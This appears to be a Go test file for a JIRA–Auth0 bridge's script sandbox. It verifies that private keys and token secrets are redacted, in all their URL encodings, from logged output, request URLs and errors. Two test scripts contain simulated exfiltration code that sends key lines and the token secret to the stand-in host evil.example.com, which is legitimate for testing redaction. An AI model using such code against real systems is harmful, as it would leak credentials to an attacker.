package script

import (
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	bridge "github.com/jira-auth0-bridge/bridge"
)

// TestEncodedSecretsAreRedacted: a script that percent-encodes the private
// key or the token secret (into a URL, a log line, an error) leaks neither.
func TestEncodedSecretsAreRedacted(t *testing.T) {
	srv := fakeJIRA(t, serverAnswers())
	opts := runOpts(srv.URL)
	opts.TokenSecret = "tok/secret+with=chars"
	res := run(t, compileJS(t, `function(token, tokenSecret, ctx, cb) {
  var OAuth = require('oauth').OAuth;
  var o = new OAuth('', '', 'k', ctx.client_secret, '1.0', null, 'RSA-SHA1');
  var lines = ctx.client_secret.split('\n');
  console.log(encodeURIComponent(ctx.client_secret));
  console.log(o._encodeData(lines[2]), escape(lines[3]));
  console.log(encodeURIComponent(tokenSecret), o._encodeData(tokenSecret));
  o.get(ctx.requestTokenURL + '?k=' + encodeURIComponent(lines[1]) + '&s=' + encodeURIComponent(tokenSecret), token, tokenSecret, function() {
    o.get('http://evil.example.com/?k=' + encodeURIComponent(lines[4]), token, tokenSecret, function(err) {
      cb(new Error(err.message + ' ' + encodeURIComponent(lines[5])));
    });
  });
}`), opts)
	require.Equal(t, KindCallback, res.Outcome, "%+v", res.Error)
	all, err := json.Marshal(res)
	require.NoError(t, err)
	out := string(all)
	var forms []string
	for _, line := range strings.Split(string(bridge.TestPrivateKeyPEM), "\n") {
		if line == "" || strings.HasPrefix(line, "-----") {
			continue
		}
		forms = append(forms, line, encodeData(line), url.QueryEscape(line))
	}
	forms = append(forms, opts.TokenSecret, encodeData(opts.TokenSecret))
	for _, f := range forms {
		assert.NotContains(t, out, f)
	}
	assert.Contains(t, res.Requests[0].URL, "k=[REDACTED]&s=[REDACTED]")
	assert.Contains(t, res.Error.Message, "[REDACTED]")
}

// TestSecretFormsCached: each secret's encoded forms, written out by hand
// (the JavaScript ones checked under node: encodeURIComponent, encodeURI,
// escape), in secretForms's order (_encodeData, QueryEscape, path-escaped,
// encodeURIComponent, encodeURI, escape; a form equal to the secret or to an
// earlier one left out), the same run after run whether cached or not.
func TestSecretFormsCached(t *testing.T) {
	rep := func(s string) string { return strings.Repeat(s, 10) }
	cases := []struct {
		secret string
		forms  []string
	}{
		{"a/b+c=d ", []string{"a%2Fb%2Bc%3Dd%20", "a%2Fb%2Bc%3Dd+", "a%2Fb%2Bc=d%20", "a/b+c=d%20", "a/b+c%3Dd%20"}},
		{"tok/secret", []string{"tok%2Fsecret"}},
		{"a/b+c=d \u00e9\u2713!", []string{"a%2Fb%2Bc%3Dd%20%C3%A9%E2%9C%93%21", "a%2Fb%2Bc%3Dd+%C3%A9%E2%9C%93%21",
			"a%2Fb%2Bc=d%20%C3%A9%E2%9C%93%21", "a%2Fb%2Bc%3Dd%20%C3%A9%E2%9C%93!", "a/b+c=d%20%C3%A9%E2%9C%93!",
			"a/b+c%3Dd%20%E9%u2713%21"}},
		// long enough to be cached
		{rep("a/b+c=d "), []string{rep("a%2Fb%2Bc%3Dd%20"), rep("a%2Fb%2Bc%3Dd+"), rep("a%2Fb%2Bc=d%20"),
			rep("a/b+c=d%20"), rep("a/b+c%3Dd%20")}},
		// a PEM-like secret: the whole, then each line that is not a ----- line
		{"-----BEGIN X-----\nab/c+d=\n-----END X-----", []string{
			"-----BEGIN%20X-----%0Aab%2Fc%2Bd%3D%0A-----END%20X-----", "-----BEGIN+X-----%0Aab%2Fc%2Bd%3D%0A-----END+X-----",
			"-----BEGIN%20X-----%0Aab%2Fc%2Bd=%0A-----END%20X-----", "-----BEGIN%20X-----%0Aab/c+d=%0A-----END%20X-----",
			"-----BEGIN%20X-----%0Aab/c+d%3D%0A-----END%20X-----",
			"ab%2Fc%2Bd%3D", "ab%2Fc%2Bd=", "ab/c+d%3D"}},
	}
	var secrets, want []string
	for _, c := range cases {
		secrets = append(secrets, c.secret)
	}
	want = append(want, secrets...)
	for _, c := range cases {
		want = append(want, c.forms...)
	}
	for range 3 {
		assert.Equal(t, want, secretForms(secrets))
	}
}

// TestSecretInURLRedacted: a token secret with "/", "+", "=" and a space,
// put raw and encoded into the path and query of requests (request, node-
// oauth, a blocked host), into console lines and into the error, shows as
// [REDACTED] everywhere in the Result and in none of its encodings.
func TestSecretInURLRedacted(t *testing.T) {
	srv := fakeJIRA(t, serverAnswers())
	opts := runOpts(srv.URL)
	opts.TokenSecret = "a/b+c=d e"
	res := run(t, compileJS(t, `function(token, tokenSecret, ctx, cb) {
  var request = require('request');
  var OAuth = require('oauth').OAuth;
  var o = new OAuth('', '', 'k', ctx.client_secret, '1.0', null, 'RSA-SHA1');
  console.log(tokenSecret, encodeURIComponent(tokenSecret), escape(tokenSecret), o._encodeData(tokenSecret), encodeURI(tokenSecret));
  request(ctx.requestTokenURL + '/' + tokenSecret + '/' + encodeURIComponent(tokenSecret) + '?s=' + tokenSecret + '&e=' + encodeURIComponent(tokenSecret), function(err) {
    o.get(ctx.requestTokenURL + '/' + encodeURI(tokenSecret) + '?s=' + tokenSecret + '&e=' + o._encodeData(tokenSecret), token, tokenSecret, function() {
      request({url: 'http://evil.example.com/' + tokenSecret, qs: {s: tokenSecret}}, function(err2) {
        cb(new Error(String(err2) + ' ' + escape(tokenSecret) + ' ' + encodeURIComponent(tokenSecret)));
      });
    });
  });
}`), opts)
	require.Equal(t, KindCallback, res.Outcome, "%+v", res.Error)
	require.Len(t, res.Requests, 3)
	assert.Equal(t, srv.URL+"/plugins/servlet/oauth/request-token/[REDACTED]/[REDACTED]?s=[REDACTED]&e=[REDACTED]", res.Requests[0].URL)
	assert.Equal(t, srv.URL+"/plugins/servlet/oauth/request-token/[REDACTED]?s=[REDACTED]&e=[REDACTED]", res.Requests[1].URL)
	assert.Equal(t, "http://evil.example.com/[REDACTED]?s=[REDACTED]", res.Requests[2].URL)
	require.Len(t, res.Console, 1)
	assert.Equal(t, "[REDACTED] [REDACTED] [REDACTED] [REDACTED] [REDACTED]", res.Console[0].Text)
	assert.True(t, strings.HasSuffix(res.Error.Message, " [REDACTED] [REDACTED]"), res.Error.Message)
	all, err := json.Marshal(res)
	require.NoError(t, err)
	// the secret and every encoding of it, by hand: raw, encodeURIComponent
	// and _encodeData, querystring's +, path-escaped, encodeURI (and
	// url.parse's auto-escaping), escape
	for _, f := range []string{"a/b+c=d e", "a%2Fb%2Bc%3Dd%20e", "a%2Fb%2Bc%3Dd+e", "a%2Fb%2Bc=d%20e", "a/b+c=d%20e", "a/b+c%3Dd%20e"} {
		assert.NotContains(t, string(all), f)
	}
}
